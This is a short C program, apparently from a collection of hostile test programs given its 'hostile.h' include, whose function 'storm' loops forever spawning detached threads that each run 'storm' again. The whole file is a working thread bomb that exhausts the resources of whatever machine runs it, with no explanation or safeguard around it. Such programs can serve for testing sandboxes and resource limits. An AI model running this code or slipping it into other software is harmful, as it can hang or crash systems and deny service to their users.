#include "hostile.h"
static void *storm(void *nothing)
{
    for (;;) {
        pthread_t thread;
        if (pthread_create(&thread, NULL, storm, NULL) == 0)
            pthread_detach(thread);
    }
    return nothing;
}
int main(void)
{
    storm(NULL);
}
